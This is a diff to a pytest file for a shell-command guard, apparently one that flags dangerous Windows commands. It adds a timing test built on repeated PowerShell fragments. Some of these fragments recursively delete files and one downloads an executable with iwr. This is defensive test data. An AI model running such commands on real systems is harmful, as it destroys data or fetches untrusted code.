@@ -6,6 +6,7 @@ import re
 
 import pytest
 
+from support import takes_less_than
 from tenterhook.guards import danger_table, dangerous_commands
 from tenterhook.guards.calls import ASK, DENY
 from tenterhook.shell import reader
@@ -68,3 +69,19 @@ def test_arguments_that_are_too_long_to_be_searched_are_asked_about() -> None:
 def test_programs_and_cmdlets_of_windows_are_known_by_their_names() -> None:
     assert all(map(danger_table.is_of_windows, ("Remove-Item", "PowerShell", "vssadmin", "Get-Content")))
     assert not any(map(danger_table.is_of_windows, ("rm", "apt-get", "Makefile", "")))
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "gci c:\\x | ri -whatif ",
+        "gci node_modules | ri ",
+        "irm; ",
+        "/a -recurse | ",
+        "ri -r c:\\x ",
+        "iwr http://x/y.exe -outfile y.exe ; ",
+    ],
+)
+def test_a_long_hostile_powershell_text_is_searched_in_time(unit: str) -> None:
+    text = unit * (danger_table.LONGEST // len(unit))
+    assert takes_less_than(0.5, lambda: list(danger_table.of_windows(text)))
